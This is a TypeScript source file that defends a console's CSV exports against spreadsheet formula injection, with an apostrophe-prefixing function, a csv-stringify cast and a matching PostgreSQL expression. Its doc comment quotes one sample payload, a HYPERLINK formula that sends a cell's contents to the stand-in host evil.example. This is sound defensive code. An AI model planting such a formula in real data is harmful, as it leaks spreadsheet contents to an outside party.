/**
 * CSV injection ("formula injection"): a spreadsheet treats a cell that starts with
 * = + - @ tab or CR as a formula, so tenant-controlled text such as a company named
 * `=HYPERLINK("https://evil.example/?x="&A1)` would become a live formula in the
 * operator's spreadsheet. Every CSV the console writes passes its text cells through
 * this one rule: such a cell gets a leading apostrophe, which spreadsheets show as text
 * (OWASP's recommendation). Numbers are values, not text, and are never touched.
 */
export const FORMULA_TRIGGERS = ['=', '+', '-', '@', '\t', '\r'] as const;

export function neutralizeCsvCell(value: string): string {
  return value.length > 0 && (FORMULA_TRIGGERS as readonly string[]).includes(value[0]!) ? `'${value}` : value;
}

/** csv-stringify's `cast` entry that applies the rule to every string cell. */
export const neutralizingCast = { string: (value: string): string => neutralizeCsvCell(value) };

/**
 * The same rule as a SQL expression over an already-quoted column, for exports written by
 * PostgreSQL's COPY (the tenant's own data export), so NULL stays NULL and the stream is
 * never re-parsed. A test compares it with neutralizeCsvCell on random text.
 */
export function neutralizeCsvCellSql(quotedColumn: string): string {
  // Inside a bracket expression '-' is literal when it comes last and '\t', '\r' are given as escapes.
  return `CASE WHEN ${quotedColumn}::text ~ '^[=+@\\t\\r-]' THEN '''' || ${quotedColumn}::text ELSE ${quotedColumn}::text END`;
}
